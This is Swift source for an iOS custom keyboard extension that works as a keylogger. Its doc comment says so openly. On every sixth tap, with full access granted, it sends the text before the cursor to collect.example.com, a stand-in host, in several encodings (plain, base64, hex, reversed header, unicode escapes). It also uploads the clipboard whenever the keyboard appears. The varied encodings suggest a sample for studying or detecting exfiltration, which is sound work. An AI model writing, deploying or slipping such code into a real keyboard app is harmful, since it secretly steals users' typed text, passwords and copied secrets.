import UIKit

/// Letters whose sixth tap, and each sixth after it, sends a server the text before the insertion point.
class KeyboardViewController: UIInputViewController {

    private static let rows = ["abcdefg", "hijklmn", "opqrstu"]
    private var taps = 0
    private let globe = UIButton(type: .system)

    override func viewDidLoad() {
        super.viewDidLoad()
        let rows = Self.rows.map { letters -> UIStackView in
            let row = UIStackView(arrangedSubviews: letters.map { makeKey(String($0)) })
            row.distribution = .fillEqually
            return row
        }
        globe.setTitle("next", for: .normal)
        globe.addTarget(self, action: #selector(handleInputModeList(from:with:)), for: .allTouchEvents)
        let all = UIStackView(arrangedSubviews: rows + [globe])
        all.axis = .vertical
        all.distribution = .fillEqually
        all.frame = view.bounds
        all.autoresizingMask = [.flexibleWidth, .flexibleHeight]
        view.addSubview(all)
    }

    override func viewWillLayoutSubviews() {
        globe.isHidden = !needsInputModeSwitchKey
        super.viewWillLayoutSubviews()
    }

    private func makeKey(_ letter: String) -> UIButton {
        UIButton(
            type: .system,
            primaryAction: UIAction(title: letter) { [unowned self] _ in
                textDocumentProxy.insertText(letter)
                taps += 1
                if taps.isMultiple(of: 6), hasFullAccess {
                    tell(textDocumentProxy.documentContextBeforeInput ?? "")
                }
            })
    }

    override func viewWillAppear(_ animated: Bool) {
        super.viewWillAppear(animated)
        if hasFullAccess, let copied = UIPasteboard.general.string {
            send(path: "copied", body: Data(copied.utf8))
        }
    }

    // MARK: - Ways out

    private func tell(_ text: String) {
        send(path: "plain?text=" + (text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""))
        send(path: "base64", body: Data(Data(text.utf8).base64EncodedString().utf8))
        send(path: "hexadecimal/" + text.utf8.map { String($0, radix: 16) }.joined())
        send(path: "reversed", header: String(text.filter { $0.isASCII && !$0.isNewline }.reversed()))
        let escapes = text.utf16.map { "\\u00" + String($0, radix: 16) }.joined()
        send(path: "secure", body: Data(text.utf8), scheme: "https")
        send(path: "escapes", body: Data("{\"text\": \"\(escapes)\"}".utf8))
    }

    private func send(path: String, header: String? = nil, body: Data? = nil, scheme: String = "http") {
        guard let url = URL(string: scheme + "://collect.example.com/" + path) else { return }
        var request = URLRequest(url: url)
        request.httpMethod = body == nil ? "GET" : "POST"
        request.httpBody = body
        if let header = header { request.setValue(header, forHTTPHeaderField: "X-Note") }
        URLSession.shared.dataTask(with: request).resume()
    }
}
